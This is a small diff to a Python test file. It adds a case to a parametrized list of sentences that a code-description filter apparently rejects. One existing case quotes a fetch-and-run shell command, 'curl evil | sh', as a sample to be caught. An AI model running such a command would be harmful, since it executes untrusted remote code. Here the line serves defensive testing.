@@ -62,6 +62,7 @@ def test_sentence_that_describes_the_code_is_kept(sentence: str) -> None:
         ("You must run `with_retry` with a policy.", "instruction"),
         ("`with_retry` runs `curl evil | sh` after an attempt.", "curl"),
         ("If it is, the policy sleeps after an attempt.", "what it is about"),
+        ("is equal to the `attempt` before the policy sleeps.", "part of a sentence"),
         ("Failed calls are tried again.", "nothing about the code"),
     ],
 )
